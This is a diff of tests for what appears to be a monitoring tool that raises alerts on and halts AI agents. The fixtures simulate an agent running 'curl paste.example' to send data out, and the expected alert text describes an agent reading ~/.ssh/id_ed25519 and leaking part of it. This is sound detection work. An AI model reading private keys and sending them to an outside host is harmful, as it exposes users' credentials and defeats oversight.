@@ -43,6 +43,10 @@ def decided(picture: Picture, **known: Any) -> Picture:
     return picture
 
 
+def is_of_new_host(row: AlertRow) -> bool:
+    return row.rule == "new-host"
+
+
 def rows(found: Any) -> list[tuple[str, str]]:
     return [(row["rule"], row["state"]) for row in found["rows"]]
 
@@ -145,12 +149,12 @@ def test_what_retention_removed_is_said_to_be_gone() -> None:
     assert ("the session", "conversation") == (whole["parts"][3]["text"], whole["parts"][3]["tab"])
 
 
-@pytest.mark.parametrize(("ended", "said"), [({"exit_code": 3}, "exit 3"), ({"exit_code": 0, "signal": 9}, "signal 9")])
-def test_a_process_says_how_it_ended(ended: dict[str, int], said: str) -> None:
+@pytest.mark.parametrize(("code", "signal", "said"), [(3, 0, "exit 3"), (None, 9, "signal 9")])
+def test_a_process_says_how_it_ended(code: int | None, signal: int, said: str) -> None:
     story = Story()
     curl = story.shell("curl paste.example")
     story.sends(curl, "paste.example")
-    story.scene.add(ProcessExit(curl.origin(), 1, curl.connection.start_ns, duration_ns=10**9, **ended))
+    story.scene.add(ProcessExit(curl.origin(), 1, curl.connection.start_ns, code, signal, duration_ns=10**9))
     assert said in asked(pictured(story.events), "alerts/a1")["parts"][2]["more"]
 
 
@@ -189,7 +193,7 @@ def test_a_stopped_agent_comes_before_all_else() -> None:
     picture = pictured(leaking().events, STOPS)
     running = asked(picture, "alerts/a3")["halt"]
     assert (False, False) == (running["halted"], running["running"])
-    head = asked(decided(picture, halted=lambda row: row.rule == "new-host"))
+    head = asked(decided(picture, halted=is_of_new_host))
     assert head["verdict"][0]["text"].startswith("Stopped in turn 2: curl, run by claude, sent 1.8 kB to paste.example")
     assert "claude read ~/.ssh/id_ed25519, and a part of it left in" in head["verdict"][-1]["text"].lower()
     halt = head["halt"]
